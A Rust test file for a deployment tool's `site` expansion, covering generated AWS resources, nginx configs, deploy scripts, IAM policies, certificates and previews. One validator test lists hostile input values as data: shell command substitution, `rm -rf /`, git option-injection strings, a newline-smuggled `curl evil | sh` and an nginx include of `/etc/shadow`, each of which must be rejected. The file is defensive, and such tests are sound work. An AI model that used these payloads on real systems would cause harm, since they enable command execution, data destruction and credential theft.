//! Golden tests of the `site` expansion and of what it generates. The shell
//! scripts are linted with shellcheck and run for real in the end-to-end tests.

use std::sync::Arc;

use super::*;
use crate::provider::Registry;
use crate::testing::FakeProvider;

/// A registry with the seven primitive kinds' real schemas (fake behaviour).
fn registry() -> Registry {
    let mut registry = Registry::new();
    for schema in [
        crate::providers::aws::logs::schema(),
        crate::providers::aws::ec2::schema(),
        crate::providers::aws::route53::schema(),
        crate::providers::aws::security_groups::schema(),
        crate::providers::aws::iam::schema(),
        crate::providers::acme::schema(),
        crate::providers::github::schema(),
    ] {
        registry.register(Arc::new(FakeProvider::with_schema(schema)));
    }
    registry
}

const BLOG: &str = "site.blog:
  repo: acme/blog
  framework: static
  domain: blog.example.com
  zone: example.com
  webhook_url: https://jaam.example.com/hooks/github
  webhook_secret: ${env.HOOK_SECRET}
  env:
    PUBLIC_TITLE: My blog
  secrets:
    API_KEY: /blog/api-key
";

fn load(text: &str) -> crate::spec::Result<crate::spec::Config> {
    crate::spec::load_sources(
        &[("site.yaml".into(), text.to_owned())],
        &registry(),
        &|name| (name == "HOOK_SECRET").then(|| "s3cret-value-for-tests".to_owned()),
    )
}

/// The expansion as text: addresses, arguments as written, dependencies.
fn describe(config: &crate::spec::Config) -> String {
    let mut out = String::new();
    for (addr, resource) in config.resources() {
        let _ = writeln!(out, "{addr}  (kind {})", addr.kind());
        for (name, expr) in &resource.args {
            let shown = match &expr.kind {
                ExprKind::Template(template) => template.source.clone(),
                ExprKind::Literal(Value::String(text)) if text.contains('\n') => {
                    format!("<{} lines>", text.lines().count())
                }
                ExprKind::Literal(Value::Map(files)) if name == "files" => {
                    let listed: Vec<String> = files
                        .iter()
                        .map(|(path, text)| {
                            format!("{path} <{} lines>", text.render().matches("\\n").count())
                        })
                        .collect();
                    format!("{{ {} }}", listed.join(", "))
                }
                _ => expr
                    .evaluate(&|_, _| None, &|_| Some("<env>".into()))
                    .render(),
            };
            let _ = writeln!(out, "  {name} = {shown}");
        }
        let dependencies: Vec<String> = resource
            .dependencies()
            .iter()
            .map(ToString::to_string)
            .collect();
        let _ = writeln!(out, "  depends on: [{}]", dependencies.join(", "));
    }
    out
}

#[test]
fn a_site_should_expand_into_its_seven_resources() {
    let config = load(BLOG).unwrap();
    insta::assert_snapshot!("expansion_static", describe(&config));
    let graph = config.graph();
    let order: Vec<String> = graph
        .topological_order()
        .unwrap()
        .iter()
        .map(ToString::to_string)
        .collect();
    let at = |name: &str| order.iter().position(|a| a == name).unwrap();
    assert!(at("site.blog.log_group") < at("site.blog.instance"));
    assert!(at("site.blog.instance") < at("site.blog.record"));
    assert!(at("site.blog.instance") < at("site.blog.certificate"));
    assert!(at("site.blog.security_group") < at("site.blog.instance"));
    assert!(at("site.blog.iam_role") < at("site.blog.instance"));
}

#[test]
fn a_server_site_without_https_or_webhook_should_expand_into_five() {
    let config = load(
        "site.api:
  repo: acme/api
  framework: node
  start: node server.js
  domain: api.example.com
  zone: example.com
  https: false
  revision: 0123456789abcdef0123456789abcdef01234567
",
    )
    .unwrap();
    let addrs: Vec<String> = config.resources().keys().map(ToString::to_string).collect();
    assert_eq!(
        addrs,
        [
            "site.api.iam_role",
            "site.api.instance",
            "site.api.log_group",
            "site.api.record",
            "site.api.security_group"
        ]
    );
    insta::assert_snapshot!("expansion_node", describe(&config));
}

#[test]
fn generated_files_should_match_their_golden_copies() {
    // The instance's user data is what the site generated.
    let config = load(BLOG).unwrap();
    let instance = &config.resources()[&"site.blog.instance".parse().unwrap()];
    let user_data = instance.args["user_data"].evaluate(&|_, _| None, &|_| None);
    insta::assert_snapshot!("user_data_static", user_data.as_str().unwrap());

    let attrs = |framework: &str| {
        Attrs::from([
            ("repo".to_owned(), Value::from("acme/app")),
            ("framework".to_owned(), Value::from(framework)),
            ("domain".to_owned(), Value::from("app.example.com")),
            ("zone".to_owned(), Value::from("example.com")),
        ])
    };
    let layout = NginxLayout {
        listen: "80".into(),
        root: "/srv/jaam/app".into(),
    };
    let node = Site::from_attrs("app", &attrs("nextjs"));
    insta::assert_snapshot!("nginx_server", nginx_conf(&node, &layout));
    insta::assert_snapshot!("nginx_server_https", nginx_https_conf(&node, &layout));
    let spa = Site::from_attrs("app", &attrs("static"));
    insta::assert_snapshot!("nginx_static", nginx_conf(&spa, &layout));
    insta::assert_snapshot!("deploy_nextjs", deploy_script(&node, &node.root()));
}

#[test]
fn secrets_should_never_reach_user_data() {
    let config = load(BLOG).unwrap();
    let instance = &config.resources()[&"site.blog.instance".parse().unwrap()];
    let user_data = instance.args["user_data"].evaluate(&|_, _| None, &|_| None);
    let files = instance.args["files"].evaluate(&|_, _| None, &|_| None);
    let text = format!("{}{}", user_data.render(), files.render());
    assert!(!text.contains("s3cret-value"));
    let files = crate::value::string_map(Some(&files));
    assert!(
        files["/opt/jaam/bin/fetch-secrets"].contains("read_secret API_KEY /blog/api-key"),
        "fetched on the instance"
    );
    assert!(
        files["/srv/jaam/blog/env"].contains("PUBLIC_TITLE='My blog'"),
        "plain values are written"
    );
    // The webhook gets the secret as written: a reference, evaluated at plan time.
    let webhook = &config.resources()[&"site.blog.webhook".parse().unwrap()];
    assert!(matches!(
        &webhook.args["secret"].kind,
        ExprKind::Template(t) if t.source == "${env.HOOK_SECRET}"
    ));
}

#[test]
fn bad_site_arguments_should_be_reported_with_their_place() {
    let error = load(
        "site.blog:
  repo: not-a-repo
  framework: rails
  domain: blog.example.com
  zone: ${instance.x.id}
",
    )
    .unwrap_err()
    .to_string();
    assert!(error.contains("site.yaml:2:9"), "{error}");
    assert!(error.contains("not a repository"), "{error}");
    assert!(error.contains("site.yaml:3:14"), "{error}");
    assert!(error.contains("not a framework"), "{error}");
    let error = load(
        "site.blog:
  repo: acme/blog
  domain: blog.example.com
  zone: ${instance.x.id}
",
    )
    .unwrap_err()
    .to_string();
    assert!(
        error.contains("may read `${env.…}` but not other resources"),
        "{error}"
    );
}

#[test]
fn environment_values_should_not_reach_user_data() {
    let error = load(
        "site.blog:
  repo: acme/blog
  domain: blog.example.com
  zone: example.com
  env:
    TOKEN: ${env.HOOK_SECRET}
",
    )
    .unwrap_err()
    .to_string();
    assert!(error.contains("site.yaml:6:12"), "{error}");
    assert!(error.contains("may not read `${env.…}`"), "{error}");
    assert!(error.contains("list it under `secrets`"), "{error}");
}

#[test]
fn shell_quoting_should_survive_any_text() {
    assert_eq!(shell_quote("plain/path-1.2"), "plain/path-1.2");
    assert_eq!(shell_quote("it's"), r"'it'\''s'");
    assert_eq!(shell_quote(""), "''");
    assert_eq!(shell_quote("$HOME"), "'$HOME'");
}

/// Issue 11, item 5: every value that lands in a generated file is checked
/// where it lands; each hostile value is a clear error at its file:line:col.
#[test]
fn hostile_site_values_should_each_be_a_clear_error_at_their_location() {
    let cases: &[(&str, &str, &str)] = &[
        ("node_version", "\"20$(id)\"", "not a Node.js version"),
        ("node_version", "\"20; rm -rf /\"", "not a Node.js version"),
        ("node_version", "\"20.1.2.3\"", "not a Node.js version"),
        ("output_dir", "/etc", "not a directory inside the build"),
        (
            "output_dir",
            "../../etc",
            "not a directory inside the build",
        ),
        (
            "output_dir",
            "\"dist; }\"",
            "not a directory inside the build",
        ),
        (
            "output_dir",
            "\"dist\\nserver {\"",
            "not a directory inside the build",
        ),
        (
            "repo_url",
            "\"--upload-pack=touch /tmp/x\"",
            "not a clone URL",
        ),
        ("repo_url", "\"-oProxyCommand=id\"", "not a clone URL"),
        ("repo_url", "\"file:///etc\"", "not a clone URL"),
        ("repo_url", "\"ext::sh -c id\"", "not a clone URL"),
        (
            "repo_url",
            "\"https://user:tok@github.com/a/b.git\"",
            "not a clone URL",
        ),
        (
            "repo_url",
            "\"https://github.com/a/b.git\\nJAAM_DEPLOY\"",
            "line breaks",
        ),
        (
            "install",
            "\"npm ci\\nJAAM_DEPLOY\\ncurl evil | sh\"",
            "line breaks",
        ),
        (
            "build",
            "JAAM_DEPLOY",
            "delimiter of the generated user data",
        ),
        ("start", "\"npm start\\rreboot\"", "line breaks"),
        (
            "domain",
            "\"blog.example.com; include /etc/shadow\"",
            "not a domain name",
        ),
        ("domain", "\"blog.example.com\\n\"", "not a domain name"),
        ("branch", "\"--upload-pack=id\"", "not a branch name"),
        ("branch", "\"main..evil\"", "not a branch name"),
        ("revision", "rollback", "not a commit id"),
        ("revision", "main", "not a commit id"),
        ("port", "22", "not a port"),
        ("keep_releases", "0", "not between 1 and 100"),
        ("repo", "\"acme/blog; id\"", "not a repository"),
        ("repo", "\"-x/blog\"", "not a repository"),
        (
            "env",
            "{TITLE: \"a\\nJAAM_ENV\\nrm -rf /\"}",
            "`TITLE`: line breaks",
        ),
        (
            "env",
            "{TITLE: JAAM_ENV}",
            "delimiter of the generated user data",
        ),
        ("secrets", "{KEY: \"/a b\"}", "not an SSM parameter name"),
        ("secrets", "{KEY: \"/a$(id)\"}", "not an SSM parameter name"),
        (
            "repo_url",
            "\"https://github.com/${env.HOOK_SECRET}/b.git\"",
            "may not read `${env.…}`",
        ),
        (
            "install",
            "\"npm ci ${env.HOOK_SECRET}\"",
            "may not read `${env.…}`",
        ),
        (
            "domain",
            "\"${env.HOOK_SECRET}.example.com\"",
            "may not read `${env.…}`",
        ),
    ];
    assert!(cases.len() >= 15);
    for (argument, value, expected) in cases {
        // The base site, with `argument` set to (or replaced by) `value`.
        let mut text = String::from("site.blog:\n");
        for (name, base) in [
            ("repo", "acme/blog"),
            ("domain", "blog.example.com"),
            ("zone", "example.com"),
        ] {
            if name != *argument {
                text.push_str(&format!("  {name}: {base}\n"));
            }
        }
        text.push_str(&format!("  {argument}: {value}\n"));
        let error = match load(&text) {
            Ok(_) => panic!("`{argument}: {value}` was accepted"),
            Err(error) => error.to_string(),
        };
        assert!(
            error.contains(expected),
            "`{argument}: {value}`: expected {expected:?} in:\n{error}"
        );
        let line = text
            .lines()
            .position(|l| l.trim_start().starts_with(&format!("{argument}:")))
            .unwrap()
            + 1;
        assert!(
            error.contains(&format!("site.yaml:{line}:")),
            "`{argument}: {value}`: expected the location site.yaml:{line} in:\n{error}"
        );
        assert!(
            error.contains("site.blog"),
            "`{argument}: {value}`: expected the address in:\n{error}"
        );
        assert!(!error.contains("s3cret-value"), "{error}");
    }
}

#[test]
fn ordinary_site_values_should_still_be_accepted() {
    load(
        "site.blog:
  repo: acme/my-blog.io
  branch: release/2.x
  repo_url: git@github.com:acme/my-blog.io.git
  domain: blog.example.com
  zone: example.com
  node_version: \"20.11.1\"
  output_dir: build/public
  install: npm ci --omit=dev && echo \"it's fine\"
  port: 8080
  revision: 0123456789abcdef0123456789abcdef01234567
  env: {TITLE: \"My blog: it's $HOME\"}
  secrets: {API_KEY: /blog/api-key}
",
    )
    .unwrap();
}

/// Issue 13: a site's user data is a bootstrap under 4 KB whatever its
/// framework and however long its `env` (which travels in its files); a
/// 17 KB `user_data` on a plain instance is a validate error (EC2 refuses
/// over 16,384 bytes, moto does not).
#[test]
fn user_data_should_stay_a_small_bootstrap_and_ec2s_limit_a_validate_error() {
    let env: String = (0..60)
        .map(|n| format!("    VARIABLE_{n}: {}\n", "x".repeat(100)))
        .collect();
    for framework in ["static", "node", "nextjs"] {
        let config = load(&format!(
            "site.blog:\n  repo: acme/blog\n  framework: {framework}\n  domain: blog.example.com\n  \
             zone: example.com\n  env:\n{env}"
        ))
        .unwrap();
        let instance = &config.resources()[&"site.blog.instance".parse().unwrap()];
        let user_data = instance.args["user_data"].evaluate(&|_, _| None, &|_| None);
        let size = user_data.as_str().unwrap().len();
        assert!(size < 4_096, "{framework}: user data is {size} bytes");
        let files = instance.args["files"].evaluate(&|_, _| None, &|_| None);
        assert!(
            crate::value::string_map(Some(&files))["/srv/jaam/blog/env"].contains("VARIABLE_59="),
            "{framework}: the env travels in the files"
        );
    }

    let big = "echo x\n".repeat(17_000 / 7 + 1);
    let indented: String = big.lines().map(|l| format!("    {l}\n")).collect();
    let error = load(&format!(
        "instance.web:\n  ami: ami-0123456789abcdef0\n  instance_type: t3.micro\n  user_data: |\n{indented}"
    ))
    .unwrap_err()
    .to_string();
    assert!(error.contains("site.yaml:5:"), "{error}");
    assert!(error.contains("user data is 17003 bytes"), "{error}");
}

/// Issue 13 (in part): a site brings its own security group — HTTP and
/// HTTPS from anywhere, SSH only from `ssh_from` — unless it names groups.
#[test]
fn a_site_should_bring_its_own_security_group_unless_it_names_groups() {
    let config = load(
        "site.blog:\n  repo: acme/blog\n  domain: blog.example.com\n  zone: example.com\n  \
         ssh_from: [203.0.113.7/32]\n",
    )
    .unwrap();
    let text = describe(&config);
    assert!(
        text.contains("site.blog.security_group  (kind security_group)"),
        "{text}"
    );
    assert!(
        text.contains("name = \"jaam-site-blog.example.com\""),
        "{text}"
    );
    assert!(
        text.contains(
            "ingress = [\"tcp 80 0.0.0.0/0\", \"tcp 80 ::/0\", \"tcp 443 0.0.0.0/0\", \"tcp 443 ::/0\", \"tcp 22 203.0.113.7/32\"]"
        ),
        "{text}"
    );
    assert!(
        text.contains("security_group_ids = [(known after apply)]"),
        "{text}"
    );
    let instance: crate::addr::ResourceAddr = "site.blog.instance".parse().unwrap();
    assert!(
        config.resources()[&instance]
            .dependencies()
            .iter()
            .any(|d| d.to_string() == "site.blog.security_group"),
        "{text}"
    );

    let config = load(
        "site.blog:\n  repo: acme/blog\n  domain: blog.example.com\n  zone: example.com\n  \
         security_group_ids: [sg-0123456789abcdef0]\n",
    )
    .unwrap();
    let text = describe(&config);
    assert!(!text.contains("site.blog.security_group "), "{text}");
    assert!(
        text.contains("security_group_ids = [\"sg-0123456789abcdef0\"]"),
        "{text}"
    );

    let error = load(
        "site.blog:\n  repo: acme/blog\n  domain: blog.example.com\n  zone: example.com\n  \
         ssh_from: [0.0.0.0]\n",
    )
    .unwrap_err()
    .to_string();
    assert!(error.contains("site.yaml:5:"), "{error}");
    assert!(error.contains("`0.0.0.0` is not a CIDR"), "{error}");
}

/// Issue 13 (in part): a site brings its own role, least privilege: the SSM
/// core actions, its own log group, certificate, secrets and token only.
#[test]
fn a_site_should_bring_its_own_least_privilege_role_unless_it_names_a_profile() {
    let config = load(BLOG).unwrap();
    let role: crate::addr::ResourceAddr = "site.blog.iam_role".parse().unwrap();
    let args = &config.resources()[&role].args;
    let value = |name: &str| args[name].evaluate(&|_, _| None, &|_| None);
    assert_eq!(value("name"), Value::from("jaam-site-blog.example.com"));
    assert_eq!(
        value("managed_policy_arns"),
        Value::List(vec![Value::from(SSM_CORE_POLICY)])
    );
    let policy = value("inline_policies").to_json()["jaam-site"].clone();
    let statements = policy["Statement"].as_array().unwrap();
    assert_eq!(
        statements[0]["Resource"],
        serde_json::json!([
            "arn:aws:logs:*:*:log-group:/jaam/sites/blog.example.com",
            "arn:aws:logs:*:*:log-group:/jaam/sites/blog.example.com:*"
        ])
    );
    assert_eq!(
        statements[1]["Resource"],
        serde_json::json!([
            "arn:aws:ssm:*:*:parameter/jaam/{{jaam:stack}}/site.blog.certificate/*",
            "arn:aws:ssm:*:*:parameter/blog/api-key"
        ])
    );
    assert_eq!(statements[2]["Action"], "kms:Decrypt");
    assert_eq!(
        statements[2]["Condition"]["StringLike"]["kms:ViaService"], "ssm.*.amazonaws.com",
        "the default key, through SSM only"
    );
    assert_eq!(statements.len(), 3, "nothing else: {policy}");
    let instance: crate::addr::ResourceAddr = "site.blog.instance".parse().unwrap();
    assert!(
        config.resources()[&instance]
            .dependencies()
            .iter()
            .any(|d| d.to_string() == "site.blog.iam_role")
    );

    let config = load(
        "site.blog:\n  repo: acme/blog\n  domain: blog.example.com\n  zone: example.com\n  \
         iam_instance_profile: my-profile\n",
    )
    .unwrap();
    assert!(!config.resources().contains_key(&role));
}

/// Issue 13, item 6: sites of one zone with `certificate: wildcard` share
/// one certificate for `*.<zone>`, installed on each of their instances; a
/// site with its own certificate keeps it.
#[test]
fn wildcard_sites_of_a_zone_should_share_one_certificate() {
    let site = |name: &str, mode: &str, directory: &str| {
        format!(
            "site.{name}:\n  repo: acme/{name}\n  domain: {name}.example.com\n  zone: example.com\n  \
             certificate: {mode}\n  acme_directory: {directory}\n"
        )
    };
    let config = load(&format!(
        "{}{}{}",
        site("blog", "wildcard", "https://ca.test/dir"),
        site("docs", "wildcard", "https://ca.test/dir"),
        site("shop", "own", "https://ca.test/dir"),
    ))
    .unwrap();
    let addrs: Vec<String> = config
        .resources()
        .keys()
        .map(ToString::to_string)
        .filter(|a| a.contains("certificate"))
        .collect();
    assert_eq!(
        addrs,
        ["certificate.wildcard-example-com", "site.shop.certificate"]
    );
    let shared = &config.resources()[&"certificate.wildcard-example-com".parse().unwrap()];
    let value = |name: &str| shared.args[name].evaluate(&|_, _| None, &|_| None);
    assert_eq!(
        value("domains").render(),
        r#"["*.example.com", "example.com"]"#
    );
    let ExprKind::List(targets) = &shared.args["install_on"].kind else {
        panic!("install_on is a list");
    };
    let targets: Vec<String> = targets
        .iter()
        .map(|t| match &t.kind {
            ExprKind::Template(t) => t.source.clone(),
            other => format!("{other:?}"),
        })
        .collect();
    assert_eq!(
        targets,
        ["${site.blog.instance.id}", "${site.docs.instance.id}"]
    );
    // Each sharing site serves the shared files and may read only them.
    for name in ["blog", "docs"] {
        let instance = &config.resources()[&format!("site.{name}.instance").parse().unwrap()];
        let files = instance.args["files"].evaluate(&|_, _| None, &|_| None);
        let files = crate::value::string_map(Some(&files));
        assert!(
            files[&format!("/srv/jaam/{name}/nginx-https.conf")]
                .contains("ssl_certificate /etc/jaam/tls/wildcard-example-com/fullchain.pem"),
            "{name}"
        );
        assert!(files.contains_key("/etc/jaam/tls/wildcard-example-com/on-install"));
        let role = &config.resources()[&format!("site.{name}.iam_role").parse().unwrap()];
        let policy = role.args["inline_policies"]
            .evaluate(&|_, _| None, &|_| None)
            .render();
        assert!(
            policy.contains("parameter/jaam/{{jaam:stack}}/certificate.wildcard-example-com/*"),
            "{policy}"
        );
    }

    // Sharing sites must agree on the CA.
    let error = load(&format!(
        "{}{}",
        site("blog", "wildcard", "https://ca.test/dir"),
        site("docs", "wildcard", "https://other.test/dir"),
    ))
    .unwrap_err()
    .to_string();
    assert!(
        error.contains("share `certificate.wildcard-example-com` but not their `acme_directory`"),
        "{error}"
    );

    // A wildcard covers one label below the zone, no deeper.
    let error = load(
        "site.deep:\n  repo: acme/deep\n  domain: a.deep.example.com\n  zone: example.com\n  certificate: wildcard\n",
    )
    .unwrap_err()
    .to_string();
    assert!(
        error.contains(
            "`site.deep` serves `a.deep.example.com`, which the shared certificate for `*.example.com` does not cover"
        ),
        "{error}"
    );
    assert!(error.contains("site.yaml:1:1"), "{error}");
}

/// `framework: auto` is decided twice: by jaam for the plan's note and by
/// the instance when it builds (the deploy script's node detector, given the
/// same rules as JSON). Both must say the same for every kind of repository,
/// the sample apps included.
#[test]
fn auto_detection_should_agree_between_the_plan_and_the_instance() {
    let apps = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/apps");
    let mut cases: Vec<(String, Option<String>)> = [
        r#"{"dependencies":{"next":"15","react":"19"},"scripts":{"start":"next start"}}"#,
        r#"{"devDependencies":{"vite":"7"},"scripts":{"build":"vite build"}}"#,
        r#"{"dependencies":{"react-scripts":"5"}}"#,
        r#"{"scripts":{"start":"node server.js"}}"#,
        r#"{"scripts":{"build":"node build.mjs"}}"#,
        r#"{"dependencies":["next"]}"#,
        "null",
        "not json",
    ]
    .iter()
    .map(|text| ((*text).to_owned(), Some((*text).to_owned())))
    .collect();
    cases.push(("(no package.json)".into(), None));
    for entry in std::fs::read_dir(&apps).expect("examples/apps") {
        let path = entry.expect("app").path().join("package.json");
        let text = std::fs::read_to_string(&path).expect("package.json");
        cases.push((path.display().to_string(), Some(text)));
    }
    for (name, package) in cases {
        let dir = tempfile::tempdir().unwrap();
        if let Some(text) = &package {
            std::fs::write(dir.path().join("package.json"), text).unwrap();
        }
        let out = std::process::Command::new("node")
            .args(["-e", DETECT_JS, &detection_json()])
            .current_dir(dir.path())
            .output()
            .expect("node (scripts/emulators.sh installs it)");
        assert!(out.status.success(), "{name}: {out:?}");
        let line = String::from_utf8(out.stdout).unwrap();
        let expected = detect(package.as_deref());
        let output_dir = expected.output_dir.unwrap_or_default();
        assert_eq!(
            line.trim_end(),
            format!(
                "{}|{output_dir}|{}",
                expected.framework.name(),
                expected.reason
            ),
            "{name}"
        );
    }
    let named = |file: &str| {
        let text = std::fs::read_to_string(apps.join(file).join("package.json")).unwrap();
        detect(Some(&text))
    };
    assert_eq!(named("nextjs").framework, Framework::Nextjs);
    assert_eq!(
        (
            named("vite-react").framework,
            named("vite-react").output_dir
        ),
        (Framework::Static, Some("dist"))
    );
    assert_eq!(named("node-server").framework, Framework::Node);
    assert_eq!(named("static-spa").framework, Framework::Static);
}

/// A site that names no framework is `auto`, and its deploy script leaves
/// every command it does not name to the detected framework (a loaded spec
/// has every argument, unset ones null: they are not "named").
#[test]
fn a_site_naming_no_framework_should_detect_it_per_commit() {
    let config = load(
        "site.blog:\n  repo: acme/blog\n  domain: blog.example.com\n  zone: example.com\n  build: npm run build:prod\n",
    )
    .unwrap();
    let instance = &config.resources()[&"site.blog.instance".parse().unwrap()];
    let files = instance.args["files"].evaluate(&|_, _| None, &|_| None);
    let files = crate::value::string_map(Some(&files));
    let deploy = &files["/opt/jaam/bin/deploy"];
    assert!(deploy.contains("\nFRAMEWORK=auto\n"), "{deploy}");
    assert!(deploy.contains("\nNAMED=build\n"), "only `build` is named");
    assert!(deploy.contains("\nBUILD_CMD='npm run build:prod'\n"));
}

#[test]
fn previews_should_add_a_wildcard_record_a_certificate_name_and_their_source() {
    let config = load(&format!(
        "{BLOG}  previews:\n    enabled: true\n    max: 3\n    secrets: true\n"
    ))
    .unwrap();
    let value = |addr: &str, name: &str| {
        config.resources()[&addr.parse().unwrap()].args[name].evaluate(&|_, _| None, &|_| None)
    };
    assert_eq!(
        value("record.previews-blog", "name").render(),
        r#""*.blog.example.com""#
    );
    assert_eq!(
        value("site.blog.certificate", "domains").render(),
        r#"["blog.example.com", "*.blog.example.com"]"#
    );
    let source = PreviewSource::from_value(&value("site.blog.instance", "previews")).unwrap();
    assert_eq!(
        source,
        PreviewSource {
            repo: "acme/blog".into(),
            base: "main".into(),
            max: 3,
            forks: false,
            secrets: true,
            url: "https://pr-{number}.blog.example.com".into(),
        }
    );
    let files = crate::value::string_map(Some(&value("site.blog.instance", "files")));
    let https = &files["/srv/jaam/blog/nginx-https.conf"];
    assert!(
        https.contains("include /srv/jaam/blog/previews.d/https/*.conf;"),
        "{https}"
    );
    assert!(
        files["/srv/jaam/blog/preview-https.conf"].contains(&format!(
            "ssl_certificate {}/fullchain.pem",
            Site::from_attrs("blog", &Attrs::new()).tls_dir()
        )),
        "the previews serve the site's certificate"
    );
    let deploy = &files["/opt/jaam/bin/deploy"];
    assert!(
        deploy.contains("PREVIEW_HOST='pr-{number}.blog.example.com'"),
        "the deploy script knows the hosts"
    );
    // Without previews: none of it.
    let plain = load(BLOG).unwrap();
    assert!(
        !plain
            .resources()
            .contains_key(&"record.previews-blog".parse().unwrap())
    );
    let instance = &plain.resources()[&"site.blog.instance".parse().unwrap()];
    assert!(!instance.args.contains_key("previews"));
}

#[test]
fn bad_previews_should_be_clear_errors() {
    for (previews, expected) in [
        ("{enabled: yes-please}", "previews.enabled is"),
        (
            "{enabled: true, max: 0}",
            "previews.max is 0, not a number from 1 to 20",
        ),
        (
            "{enabled: true, domain: \"preview.{domain}\"}",
            "must have `{number}` in its first label",
        ),
        (
            "{enabled: true, domain: \"{domain}.pr-{number}\"}",
            "must have `{number}` in its first label",
        ),
        (
            "{enabled: true, domain: \"pr_{number}.{domain}\"}",
            "does not make domain names",
        ),
        (
            "{enabled: true, branches: true}",
            "previews has no `branches`",
        ),
        ("true", "`previews` is a map"),
    ] {
        let error = load(&format!("{BLOG}  previews: {previews}\n"))
            .unwrap_err()
            .to_string();
        assert!(error.contains(expected), "{previews}: {error}");
        assert!(error.contains("site.yaml:"), "the place: {error}");
    }
    // A server app's previews need ports above its two.
    let error = load(&format!(
        "{BLOG}  port: 65530\n  previews: {{enabled: true}}\n"
    ))
    .unwrap_err()
    .to_string();
    assert!(
        error.contains("would listen on ports 65532 to 65536"),
        "{error}"
    );
    // A shared wildcard certificate cannot cover the previews' hosts.
    let error = load(&format!(
        "{BLOG}  certificate: wildcard\n  previews: {{enabled: true}}\n"
    ))
    .unwrap_err()
    .to_string();
    assert!(error.contains("certificate: own"), "{error}");
    // A custom pattern.
    let config = load(&format!(
        "{BLOG}  previews: {{enabled: true, domain: \"blog-pr{{number}}.preview.example.com\"}}\n"
    ))
    .unwrap();
    let record = &config.resources()[&"record.previews-blog".parse().unwrap()];
    assert_eq!(
        record.args["name"]
            .evaluate(&|_, _| None, &|_| None)
            .render(),
        r#""*.preview.example.com""#
    );
}
